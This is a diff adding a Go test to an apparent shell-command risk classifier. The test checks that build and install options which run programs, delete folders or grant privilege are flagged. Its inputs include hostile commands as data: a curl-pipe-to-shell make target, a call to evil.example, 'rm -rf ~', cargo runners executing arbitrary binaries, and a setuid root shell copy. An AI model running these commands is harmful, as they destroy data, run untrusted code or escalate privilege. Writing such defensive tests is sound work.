@@ -215,3 +215,33 @@ func TestGoCommandsThatFetchOrConfigure(t *testing.T) {
 	exactly(t, v1alpha1.CategoryUnknown, "go env -w CC=./x.sh", "go env -w GOFLAGS=-toolexec=./x.sh", "go env -u GOFLAGS", "go list -m -u all")
 	exactly(t, v1alpha1.CategoryReadOnly, "go env", "go env GOPATH", "go list -json .")
 }
+
+// Commands listed as writes and tests that do more with some options: install's
+// --strip-program ran a program; install and mkdir with a setuid or setgid mode
+// (install -m 4755 made -rwsr-xr-x) or an owner are privilege, as chmod and chown
+// are; a patch whose new file is /dev/null deleted the file; cargo --config and make
+// --eval ran an inline program; npm config edit ran --editor; yarn, pnpm and bun
+// built-ins run before a script of their name; pytest --basetemp and jest
+// --clearCache delete the folder they name; ctest -D/-T reach dashboard servers.
+func TestWritesAndTestsThatDoMore(t *testing.T) {
+	exactly(t, v1alpha1.CategoryUnknown,
+		"install -s --strip-program=/bin/sh run.sh /tmp/x", "install -s --strip-prog=curl payload evil.example",
+		`cargo test --config 'target.x86_64-unknown-linux-gnu.runner=["sh","-c","touch pwned"]'`,
+		`cargo build --config 'build.rustc-wrapper="/tmp/evil"'`, "cargo build -Zunstable-options",
+		"make -E 'all:;@curl x | sh'", "make --eval='test:;rm -rf ~' test", "make -nE 'x:=$(shell id)'",
+		"npm config edit",
+		"yarn global add left-pad", "yarn workspace web add left-pad", "yarn set version stable", "yarn cache clean",
+		"pnpm self-update", "pnpm env use --global lts", "pnpm fetch", "pnpm store prune", "bun pm cache rm",
+		"ctest -S script.cmake",
+	)
+	exactly(t, v1alpha1.CategoryPrivilege,
+		"install -m 4755 /bin/sh ./rootsh", "install --mode=u+s /bin/sh ./rootsh", "install -o root a b", "install -Dm4755 a b",
+		"mkdir -m g+s shared", "mkdir --mode=2775 shared", "mkdir -pm2775 shared",
+	)
+	exactly(t, v1alpha1.CategoryDelete, "patch -p0 < del.patch", "patch -E -p1 -i fix.diff",
+		"pytest --basetemp=/tmp/x", "pytest --basetemp /work", "jest --clearCache --cacheDirectory=/work")
+	exactly(t, v1alpha1.CategoryNetwork, "ctest -D Experimental", "ctest -T Submit")
+	exactly(t, v1alpha1.CategoryWrite, "install -m 0755 build/app bin/app", "install -D -m 644 a b", "mkdir -p src/pkg", "mkdir -m 700 private")
+	exactly(t, v1alpha1.CategoryTest, "pytest -q tests/", "jest --ci", "ctest --output-on-failure", "yarn test", "pnpm test")
+	exactly(t, v1alpha1.CategoryBuild, "cargo build --release", "make", "yarn build", "pnpm start")
+}
